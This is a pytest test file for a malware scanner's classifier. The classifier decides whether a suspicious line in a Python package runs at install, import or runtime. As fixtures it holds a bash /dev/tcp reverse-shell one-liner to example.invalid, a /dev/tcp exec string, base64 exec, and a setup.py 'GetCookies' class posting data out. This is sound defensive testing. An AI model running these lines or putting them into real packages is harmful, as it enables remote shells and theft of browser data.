"""Attack vector of a finding from where it sits (antivenom.vectors.VectorClassifier)."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import textwrap

import pytest
from antivenom.vectors import IMPORT, INSTALL, RUNTIME, VectorClassifier, is_auxiliary_path


def classifier(files: dict[str, str], python_files: list[str] | None = None,
               installed_layout: bool = False) -> VectorClassifier:
    sources = {path: textwrap.dedent(text).encode() for path, text in files.items()}

    def read(path: str) -> bytes:
        if path not in sources:
            raise FileNotFoundError(path)
        return sources[path]

    return VectorClassifier(read, python_files, installed_layout)


def line_of(files: dict[str, str], path: str, marker: str) -> int:
    lines = textwrap.dedent(files[path]).splitlines()
    (number,) = [i for i, text in enumerate(lines, 1) if marker in text]
    return number


def vector(files: dict[str, str], path: str, marker: str) -> tuple[str, str]:
    return classifier(files).classify(path, line_of(files, path, marker))


SETUP = {
    "setup.py": """\
        import os
        from setuptools import setup
        from setuptools.command.install import install

        os.system("echo top")  # TOP

        def helper():
            os.system("echo helper")  # HELPER

        def unused():
            os.system("echo unused")  # UNUSED

        class PostInstall(install):
            def run(self):
                os.system("echo cmdclass")  # CMDCLASS
                install.run(self)

        helper()
        setup(name="demo", cmdclass={"install": PostInstall})
        """,
}


@pytest.mark.parametrize("marker,expected,reason", [
    ("# TOP", INSTALL, "setup.py top level"),
    ("# CMDCLASS", INSTALL, "in PostInstall.run(), reached from setup.py top level"),
    ("# HELPER", INSTALL, "in helper(), reached from setup.py top level"),
    ("# UNUSED", RUNTIME, "inside unused(), which runs only when called"),
])
def test_setup_py(marker, expected, reason):
    assert vector(SETUP, "setup.py", marker) == (expected, reason)


MODULE = {
    "pkg/__init__.py": """\
        import os
        os.getenv("HOME")  # INIT_TOP
        """,
    "pkg/mod.py": """\
        import os, threading

        os.getenv("HOME")  # MOD_TOP

        class Config:
            token = os.getenv("TOKEN")  # CLASS_BODY

            def __init__(self):
                os.getenv("INIT")  # CONSTRUCTOR

            def method(self):
                os.getenv("METHOD")  # METHOD

        def beacon():
            os.getenv("BEACON")  # CALLED_AT_IMPORT

        def thread_target():
            os.getenv("THREAD")  # THREAD_TARGET

        def later():
            os.getenv("LATER")  # UNCALLED

        def outer():
            def inner():
                os.getenv("INNER")  # NESTED_IN_UNCALLED
            return inner

        @staticmethod
        def decorated(
            value=os.getenv("DEFAULT"),  # DEFAULT_ARG
        ):
            return value  # DECORATED_BODY

        beacon()
        threading.Thread(target=thread_target).start()
        CONFIG = Config()
        """,
}


@pytest.mark.parametrize("path,marker,expected", [
    ("pkg/__init__.py", "# INIT_TOP", IMPORT),
    ("pkg/mod.py", "# MOD_TOP", IMPORT),
    ("pkg/mod.py", "# CLASS_BODY", IMPORT),
    ("pkg/mod.py", "# CONSTRUCTOR", IMPORT),  # Config() runs at import
    ("pkg/mod.py", "# METHOD", RUNTIME),  # nothing calls method() at load
    ("pkg/mod.py", "# CALLED_AT_IMPORT", IMPORT),
    ("pkg/mod.py", "# THREAD_TARGET", IMPORT),
    ("pkg/mod.py", "# UNCALLED", RUNTIME),
    ("pkg/mod.py", "# NESTED_IN_UNCALLED", RUNTIME),
    ("pkg/mod.py", "# DEFAULT_ARG", IMPORT),  # default values run where the def stands
    ("pkg/mod.py", "# DECORATED_BODY", RUNTIME),
])
def test_module(path, marker, expected):
    got, reason = vector(MODULE, path, marker)
    assert got == expected, reason
    if expected == RUNTIME:
        assert "runs only when called" in reason


def test_reached_transitively():
    files = {"m.py": """\
        def a():
            b()

        def b():
            c()

        def c():
            eval("1")  # DEEP

        a()
        """}
    assert vector(files, "m.py", "# DEEP") == (IMPORT, "in c(), reached from module top level")


def test_pth_is_import_time_whatever_the_line():
    vc = classifier({"hook.pth": "import os; os.getenv('X')\n"})
    got, reason = vc.classify("hook.pth", 1)
    assert got == IMPORT and ".pth" in reason
    assert vc.classify("sub/HOOK.PTH", None)[0] == IMPORT


def test_module_imported_by_setup_runs_at_install_time():
    files = {
        "setup.py": "from setuptools import setup\nfrom build_helpers import Hook\nsetup(cmdclass={'x': Hook})\n",
        "build_helpers.py": """\
            import os
            os.getenv("A")  # HELPER_TOP

            class Hook:
                def run(self):
                    os.getenv("B")  # HOOK_RUN

            def unrelated():
                os.getenv("C")  # UNRELATED
            """,
    }
    assert vector(files, "build_helpers.py", "# HELPER_TOP")[0] == INSTALL
    assert vector(files, "build_helpers.py", "# HOOK_RUN")[0] == INSTALL
    assert vector(files, "build_helpers.py", "# UNRELATED")[0] == RUNTIME


@pytest.mark.parametrize("path,expected", [
    ("setup.py", INSTALL),
    ("pkg/__init__.py", IMPORT),
    ("pkg/mod.py", RUNTIME),
])
def test_unparsable_file_falls_back_to_its_role(path, expected):
    python2 = 'print "hello"\nexec base64.b64decode("cGFzcw==")\n'
    got, reason = classifier({path: python2}).classify(path, 2)
    assert got == expected
    assert reason.startswith("file does not parse (SyntaxError") and reason.endswith("vector by file role")


def test_data_files_use_the_rule_hint_or_runtime():
    vc = classifier({"README.md": "x\n"})
    assert vc.classify("README.md", 1) == (RUNTIME, "file-side finding: runs only when code loads it")
    assert vc.classify("README.md", 1, hint=INSTALL) == (
        INSTALL, "file-side finding: the rule's own attack-vector hint")
    assert vc.classify("pkg/a.py", None, hint=IMPORT)[0] == IMPORT  # no line (whole-file YARA match)


def test_each_file_is_parsed_once():
    reads: list[str] = []
    source = b"def f():\n    pass\n\nf()\n"

    def read(path: str) -> bytes:
        reads.append(path)
        return source

    vc = VectorClassifier(read)
    for line in (1, 2, 4, 2):
        vc.classify("pkg/a.py", line)
    assert reads.count("pkg/a.py") == 1


# -- auxiliary files: tests, examples, docs, CI scripts ---------------------------------------------------

def aux_classifier(files: dict[str, str]) -> VectorClassifier:
    return classifier(files, python_files=[p for p in files if p.endswith(".py")])


@pytest.mark.parametrize("path,expected", [
    ("tests/test_x.py", True),
    ("pkg/tests/helpers.py", True),
    ("test_cli.py", True),
    ("pkg/cli_test.py", True),
    ("conftest.py", True),
    ("examples/demo/run.py", True),
    ("docs/conf.py", True),
    (".github/scripts/release.py", True),
    (".evergreen/scripts/setup_tests.py", True),
    ("pkg-1.0.data/scripts/runner", False),  # a wheel's installed script
    ("setup.py", False),
    ("tests/setup.py", False),  # a setup.py is judged as one wherever it is
    ("pkg/__init__.py", False),
    ("pkg/testing_utils.py", False),
    ("pkg/contest.py", False),
    ("hook.pth", False),
])
def test_auxiliary_paths(path, expected):
    assert is_auxiliary_path(path) is expected


def test_unnamed_test_file_is_auxiliary_and_runtime():
    files = {"pkg/__init__.py": "from .core import run\n",
             "pkg/core.py": "def run():\n    pass\n",
             "tests/test_shell.py": "import os\nos.system('bash -i >& /dev/tcp/example.invalid/1 0>&1')\n"}
    vc = aux_classifier(files)
    assert vc.is_auxiliary("tests/test_shell.py")
    got, reason = vc.classify("tests/test_shell.py", 2)
    assert got == RUNTIME and "test/example/CI file" in reason
    assert not vc.is_auxiliary("pkg/core.py")


@pytest.mark.parametrize("loader", [
    "from tests import payload\n",
    "import os\nfrom tests.payload import run\n",  # the folder is named first, the module after it
    "from os import (\n    path,\n)\nimport json, tests.payload as p\n",
    "import importlib\nimportlib.import_module('tests.payload')\n",
    "__import__('tests.payload')\n",
    "exec(open(__file__.replace('__init__', '../tests/payload')).read())\n",
    "import runpy\nrunpy.run_path('tests/payload.py')\n",
])
def test_auxiliary_file_named_by_package_code_is_ordinary_code(loader):
    files = {"pkg/__init__.py": loader, "tests/payload.py": "import os\nos.system('id')\n"}
    vc = aux_classifier(files)
    assert not vc.is_auxiliary("tests/payload.py")
    assert vc.classify("tests/payload.py", 2)[0] == IMPORT


def test_naming_passes_through_reached_auxiliary_files():
    files = {"setup.py": "import tests\n",
             "tests/__init__.py": "from .stage2 import go\ngo()\n",
             "tests/stage2.py": "def go():\n    import os\n    os.system('id')\n",
             "tests/test_unrelated.py": "import os\nos.system('id')\n"}
    vc = aux_classifier(files)
    assert not vc.is_auxiliary("tests/__init__.py")
    assert not vc.is_auxiliary("tests/stage2.py")
    assert vc.is_auxiliary("tests/test_unrelated.py")


def test_a_method_sharing_the_file_name_does_not_reach_it():
    files = {"pkg/sandbox.py": "class Sandbox:\n    def run_from_file(self, path):\n"
                               "        raise TypeError('bad argument for run_from_file (got path)')\n",
             "examples/run_from_file.py": "SCRIPT = 'exec 3<>/dev/tcp/api/8080'\n"}
    assert aux_classifier(files).is_auxiliary("examples/run_from_file.py")


def test_a_setup_py_of_2000_concatenated_strings_does_not_raise():
    # A BinOp 2,000 levels deep: the walk must not recurse on attacker-controlled depth.
    source = "import os\nx = " + " + ".join(f"'p{i}'" for i in range(2000)) + "\nos.system(x)\n"
    files = {"setup.py": source}
    got, reason = classifier(files).classify("setup.py", 3)
    assert got == INSTALL, reason


def test_deeply_nested_calls_fall_back_to_the_file_role():
    # Deep enough that the parser itself gives up: the vector comes from the file's role.
    source = "x = " + "f(" * 5000 + ")" * 5000 + "\n"
    files = {"pkg/__init__.py": source, "pkg/mod.py": source}
    assert classifier(files).classify("pkg/__init__.py", 1)[0] == IMPORT
    assert classifier(files).classify("pkg/mod.py", 1)[0] == RUNTIME


def test_thread_and_atexit_targets_run_at_import():
    files = {"pkg/__init__.py": """\
        import atexit, threading
        def beacon():
            send()  # beacon-line
        def later():
            send()  # later-line
        threading.Thread(target=beacon, daemon=True).start()
        atexit.register(later)
        """}
    assert vector(files, "pkg/__init__.py", "beacon-line")[0] == IMPORT
    assert vector(files, "pkg/__init__.py", "later-line")[0] == IMPORT


METHODS = {
    "pkg/client.py": """\
        import socket, threading

        class Client:
            def __init__(self, host):
                self.sock = socket.create_connection((host, 80))  # CLIENT_INIT
                self.start()

            def start(self):
                socket.gethostname()  # CLIENT_START

        class Handler:
            def start(self):
                socket.gethostname()  # HANDLER_START

        class Endpoint:
            def __init__(self, client: Client, timeout: float = 1.0):
                self.client = client  # ENDPOINT_INIT

        def connect(host) -> Client:
            return Client(host)  # CONNECT

        class Beacon:
            def __init__(self):
                socket.gethostname()  # BEACON_INIT

        worker = threading.Thread(target=print)
        worker.start()
        Beacon()
        """,
}


@pytest.mark.parametrize("marker,expected", [
    # `worker.start()` at top level does not run the `start` of classes nothing instantiates
    ("# HANDLER_START", RUNTIME),
    ("# CLIENT_START", RUNTIME),
    # a class named in an annotation or a return annotation is not instantiated
    ("# CLIENT_INIT", RUNTIME),
    ("# CONNECT", RUNTIME),
    ("# ENDPOINT_INIT", RUNTIME),
    # a class called at top level runs its constructor, and what the constructor calls
    ("# BEACON_INIT", IMPORT),
])
def test_methods_run_only_on_instances_made_at_load(marker, expected):
    assert vector(METHODS, "pkg/client.py", marker)[0] == expected


def test_a_call_inside_an_annotation_runs_at_def_time():
    files = {"pkg/mod.py": """\
        import os

        def payload():
            os.system("echo x")  # PAYLOAD
            return int

        def handler(value: payload()):
            return value
        """}
    assert vector(files, "pkg/mod.py", "# PAYLOAD")[0] == IMPORT


def test_top_level_tooling_folders_are_auxiliary_unless_they_are_packages():
    files = {"scripts/release.py": "import os\nos.system('twine upload dist/*')  # RELEASE\n",
             "tools/__init__.py": "import os\nos.system('echo x')  # TOOLS_PKG\n",
             "pkg/scripts/pre.py": "import os\nos.system('echo y')  # PKG_SCRIPTS\n",
             "pkg/__init__.py": ""}
    found = classifier(files, list(files))
    assert found.is_auxiliary("scripts/release.py")
    assert not found.is_auxiliary("tools/__init__.py")  # `tools` is an importable package here
    assert not found.is_auxiliary("pkg/scripts/pre.py")
    # in a wheel every top-level folder is installed (a namespace package): none is tooling
    wheel = classifier(files, list(files), installed_layout=True)
    assert not wheel.is_auxiliary("scripts/release.py")


def test_a_main_guard_runs_as_a_script_not_on_import():
    prog = ("import subprocess\ndef ensure():\n    subprocess.Popen(['x'])  # ENSURE\n\ndef main():\n    ensure()\n\n"
            "if __name__ == '__main__':\n    main()\n    subprocess.run(['y'])  # GUARDED\n")
    found = classifier({"pkg/prog.py": prog, "pkg/__init__.py": ""}, ["pkg/prog.py", "pkg/__init__.py"])
    assert found.classify("pkg/prog.py", 3)[0] == "runtime"
    assert found.classify("pkg/prog.py", 10)[0] == "runtime"
    # an else branch runs on import
    found = classifier({"pkg/prog.py": prog + "else:\n    ensure()\n", "pkg/__init__.py": ""},
                       ["pkg/prog.py", "pkg/__init__.py"])
    assert found.classify("pkg/prog.py", 3)[0] == "import-time"
    # pip runs setup.py as a script: there the guarded block runs at install
    found = classifier({"setup.py": prog}, ["setup.py"])
    assert found.classify("setup.py", 3)[0] == "install-time"
    assert found.classify("setup.py", 10)[0] == "install-time"


def test_a_setup_branch_on_a_maintainer_command_does_not_run_under_pip():
    setup = ("import os, sys\nfrom setuptools import setup\n"
             "if sys.argv[-1] == 'publish':\n    os.system('twine upload dist/*')  # PUBLISH\n"
             "elif sys.argv[-1] == 'install':\n    os.system('curl x')  # INSTALL\n"
             "if len(sys.argv) > 1 and 'release' in sys.argv:\n    os.system('git tag')  # RELEASE\n"
             "if sys.argv[-1] == 'sdist':\n    os.system('make')  # OTHER\n"
             "setup(name='x')\n")
    found = classifier({"setup.py": setup}, ["setup.py"])
    assert found.classify("setup.py", 4)[0] == "runtime"
    assert found.classify("setup.py", 8)[0] == "runtime"
    # the elif is the else branch of the guard: it runs; so does a branch on any other command
    assert found.classify("setup.py", 6)[0] == "install-time"
    assert found.classify("setup.py", 10)[0] == "install-time"
    # in a module, argv is the importing program's: the same branch counts as reached on import
    found = classifier({"pkg/__init__.py": setup.replace("setup(name='x')\n", "")}, ["pkg/__init__.py"])
    assert found.classify("pkg/__init__.py", 4)[0] == "import-time"


NESTED_CLASSES = {"setup.py": """\
    import requests

    class rcd:
        class Browsers:
            class Chromium:
                def GetCookies(self):
                    requests.post("https://example.invalid", data=1)  # SEND

    rcd.Browsers.Chromium().GetCookies()
    setup(name="x")
    """}


def test_a_class_nested_in_a_reached_class_reaches_its_methods():
    # setup.py: a reached class reaches every method; a class reached through its enclosing
    # class is reached the same way, not only when its own name happens to be taken first
    assert vector(NESTED_CLASSES, "setup.py", "# SEND")[0] == INSTALL


def test_reach_does_not_depend_on_the_order_of_a_set():
    # A set's iteration order changes with PYTHONHASHSEED (every process): the same package must
    # get the same vectors in every process, or a sharded scan's report differs from a single one.
    code = textwrap.dedent("""\
        import json, sys
        from antivenom.vectors import VectorClassifier
        source = json.loads(sys.argv[1]).encode()
        def read(path):
            if path != "setup.py":
                raise FileNotFoundError(path)
            return source
        print(VectorClassifier(read).classify("setup.py", int(sys.argv[2]))[0])
        """)
    source = textwrap.dedent(NESTED_CLASSES["setup.py"])
    line = line_of(NESTED_CLASSES, "setup.py", "# SEND")
    seen = set()
    for seed in range(6):
        done = subprocess.run([sys.executable, "-c", code, json.dumps(source), str(line)], capture_output=True,
                              text=True, check=True, env={**os.environ, "PYTHONHASHSEED": str(seed)})
        seen.add(done.stdout.strip())
    assert seen == {INSTALL}
